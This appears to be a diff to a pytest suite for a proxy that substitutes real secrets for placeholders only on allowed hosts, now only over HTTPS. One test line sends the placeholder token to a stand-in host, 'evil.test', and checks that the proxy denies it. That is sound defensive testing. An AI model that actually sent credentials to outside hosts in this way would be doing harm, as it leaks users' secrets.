@@ -373,21 +373,49 @@ def secret_for(host: str, **extra: Any) -> dict[str, Any]:
     return {"github": {"value": SECRET, "value_env": "GITHUB_TOKEN", "hosts": [host], **extra}}
 
 
-def test_a_secret_replaces_its_placeholder_and_sets_its_header_over_http(proxies: Proxies, web: EchoServer) -> None:
-    host = f"web.test:{web.port}"
+def test_a_secret_replaces_its_placeholder_and_sets_its_header(proxies: Proxies, tls: EchoServer) -> None:
+    host = f"secure.test:{tls.port}"
     options = {"header": "Authorization", "format": "Bearer {value}"}
-    handle, policy, port = proxies.start([host, f"other.test:{web.port}"], secret_for(host, **options))
+    handle, policy, port = proxies.start([host, f"other.test:{tls.port}"], secret_for(host, **options))
     placeholder = policy.environment()["GITHUB_TOKEN"]
-    answer = echoed(proxies.curl(port, policy, f"http://{host}/?key={placeholder}", "-H", f"X-Token: {placeholder}"))
+    answer = echoed(proxies.curl(port, policy, f"https://{host}/?key={placeholder}", "-H", f"X-Token: {placeholder}"))
     assert headers_of(answer)["x-token"] == SECRET
     assert headers_of(answer)["authorization"] == f"Bearer {SECRET}"
     assert answer["path"] == f"/?key={SECRET}"
     # Sent to another allowed host, the placeholder stays what it is, and no header is added.
-    elsewhere = echoed(proxies.curl(port, policy, f"http://other.test:{web.port}/", "-H", f"X-Token: {placeholder}"))
+    elsewhere = echoed(proxies.curl(port, policy, f"https://other.test:{tls.port}/", "-H", f"X-Token: {placeholder}"))
     assert headers_of(elsewhere)["x-token"] == placeholder and "authorization" not in headers_of(elsewhere)
     # Refused elsewhere, the value appears in no record either.
     proxies.curl(port, policy, f"http://evil.test/?key={placeholder}", "-H", f"X-Token: {placeholder}")
     assert handle.denied == ["evil.test:80"]
+
+
+def test_a_secret_is_never_added_over_plain_http_and_the_run_is_told_once(proxies: Proxies, web: EchoServer) -> None:
+    """Plain HTTP leaves the machine unencrypted, to whatever answers at that address (a run's own service on
+    the host's loopback, say): its placeholder stays a placeholder, and the run hears why, once."""
+    host = f"web.test:{web.port}"
+    heard: list[str] = []
+    options = {"header": "Authorization", "format": "Bearer {value}", "body": True}
+    _, policy, port = proxies.start([host], secret_for(host, **options), on_notice=heard.append)
+    placeholder = policy.environment()["GITHUB_TOKEN"]
+    for path in ("/one", "/two"):
+        answer = echoed(
+            proxies.curl(
+                port,
+                policy,
+                f"http://{host}{path}?key={placeholder}",
+                "-H",
+                f"X-Token: {placeholder}",
+                "--data-binary",
+                placeholder,
+            )
+        )
+        assert headers_of(answer)["x-token"] == placeholder and "authorization" not in headers_of(answer)
+        assert answer["path"] == f"{path}?key={placeholder}" and answer["body"] == placeholder
+    plain = echoed(proxies.curl(port, policy, f"http://{host}/none"))  # no placeholder: nothing to say
+    assert "authorization" not in headers_of(plain)
+    assert len(heard) == 1 and "plain HTTP" in heard[0] and "local.secrets.github" in heard[0], heard
+    assert f"https://{host}" in heard[0] and SECRET not in heard[0]
 
 
 def test_a_secret_over_https_terminates_tls_with_our_ca_and_only_for_its_host(
@@ -422,18 +450,19 @@ def test_a_secret_with_body_set_is_replaced_in_bodies_of_either_framing(
     form = f"token={placeholder}&again={placeholder}"
     for host in hosts:
         scheme = "https" if host.startswith("secure") else "http"
+        expected = f"token={SECRET}&again={SECRET}" if scheme == "https" else form  # never over plain HTTP
         sized = echoed(proxies.curl(port, policy, f"{scheme}://{host}/form", "--data-binary", form))
-        assert sized["body"] == f"token={SECRET}&again={SECRET}"
+        assert sized["body"] == expected
         assert headers_of(sized)["content-length"] == str(len(sized["body"]))
         chunked = echoed(
             proxies.curl(
                 port, policy, f"{scheme}://{host}/c", "--data-binary", form, "-H", "Transfer-Encoding: chunked"
             )
         )
-        assert chunked["body"] == f"token={SECRET}&again={SECRET}"
+        assert chunked["body"] == expected
     # Over the bound for holding a body, it is streamed (chunked) instead.
     big = "x" * (1024 * 1024) + placeholder
-    answer = echoed(proxies.curl(port, policy, f"http://{hosts[0]}/big", "--data-binary", "@-", input_text=big))
+    answer = echoed(proxies.curl(port, policy, f"https://{hosts[1]}/big", "--data-binary", "@-", input_text=big))
     assert answer["body"].endswith(SECRET) and len(answer["body"]) == 1024 * 1024 + len(SECRET)
 
 
@@ -533,19 +562,19 @@ def test_requests_inside_a_terminated_tunnel_share_one_server_connection(proxies
     assert all(headers_of(answer)["x-api-key"] == SECRET for answer in answers)
 
 
-def test_a_client_waiting_for_100_continue_is_not_kept_waiting(proxies: Proxies, web: EchoServer) -> None:
-    host = f"web.test:{web.port}"
+def test_a_client_waiting_for_100_continue_is_not_kept_waiting(
+    proxies: Proxies, web: EchoServer, tls: EchoServer
+) -> None:
+    host = f"secure.test:{tls.port}"
     _, policy, port = proxies.start(
         [host, f"other.test:{web.port}"], {"api": {"value": SECRET, "hosts": [host], "body": True}}
     )
     placeholder = policy.environment()["api"]
-    for target in (host, f"other.test:{web.port}"):  # held whole for the secret, and streamed
+    for url in (f"https://{host}/", f"http://other.test:{web.port}/"):  # held whole for the secret, and streamed
         started = time.monotonic()
-        answer = echoed(
-            proxies.curl(port, policy, f"http://{target}/", "--data-binary", placeholder, "-H", "Expect: 100-continue")
-        )
+        answer = echoed(proxies.curl(port, policy, url, "--data-binary", placeholder, "-H", "Expect: 100-continue"))
         assert time.monotonic() - started < 0.9  # curl waits a second for a 100 that does not come
-        assert answer["body"] == (SECRET if target == host else placeholder)
+        assert answer["body"] == (SECRET if url.startswith("https") else placeholder)
 
 
 def test_the_denied_record_is_bounded(proxies: Proxies, monkeypatch: pytest.MonkeyPatch) -> None:
